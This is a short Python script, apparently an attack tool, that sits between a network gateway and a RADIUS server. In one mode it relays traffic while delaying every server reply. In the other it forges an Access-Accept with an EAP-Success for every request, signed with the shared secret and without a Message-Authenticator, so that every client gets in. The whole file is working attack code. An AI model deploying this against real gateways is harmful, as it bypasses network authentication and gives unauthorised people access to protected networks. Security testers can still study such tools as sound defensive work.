"""Between gateway and RADIUS server, as a process of its own: `delay` holds every answer back, `forge` lets everybody in with
answers as they were before 2024: right Response Authenticator, no Message-Authenticator.

    radius_between.py delay LISTEN_ADDRESS PORT SERVER_ADDRESS SECONDS
    radius_between.py forge LISTEN_ADDRESS PORT SECRET
"""
import hashlib
import heapq
import select
import socket
import struct
import sys
import time

EAP_MESSAGE, ACCESS_ACCEPT = 79, 2


def delay(listen, port, server, seconds):
    """Relays; answers leave `seconds` after they came. Whoever asks twice is answered twice, as by a slow server."""
    inside, ways, later = {}, {}, []
    outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    outside.bind((listen, port))
    while True:
        wait = max(0, later[0][0] - time.monotonic()) if later else None
        ready, _, _ = select.select([outside, *ways], [], [], wait)
        for one in ready:
            datagram, peer = one.recvfrom(4096)
            if one is not outside:
                heapq.heappush(later, (time.monotonic() + seconds, datagram, ways[one]))
                continue
            if peer not in inside:
                way = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                way.connect((server, port))
                inside[peer], ways[way] = way, peer
            inside[peer].send(datagram)
        while later and later[0][0] <= time.monotonic():
            _, datagram, peer = heapq.heappop(later)
            outside.sendto(datagram, peer)


def forge(listen, port, secret):
    """Says Access-Accept with an EAP-Success to everybody."""
    outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    outside.bind((listen, port))
    while True:
        datagram, peer = outside.recvfrom(4096)
        identifier, authenticator, rest, eap = datagram[1], datagram[4:20], datagram[20:], b""
        while len(rest) >= 2 and rest[1] >= 2:
            if rest[0] == EAP_MESSAGE:
                eap += rest[2:rest[1]]
            rest = rest[rest[1]:]
        success = struct.pack("!BBH", 3, eap[1] if len(eap) > 1 else 0, 4)
        attributes = bytes([EAP_MESSAGE, 2 + len(success)]) + success
        head = struct.pack("!BBH", ACCESS_ACCEPT, identifier, 20 + len(attributes))
        seal = hashlib.md5(head + authenticator + attributes + secret.encode()).digest()
        outside.sendto(head + seal + attributes, peer)


if __name__ == "__main__":
    if sys.argv[1] == "delay":
        delay(sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5]))
    else:
        forge(sys.argv[2], int(sys.argv[3]), sys.argv[4])
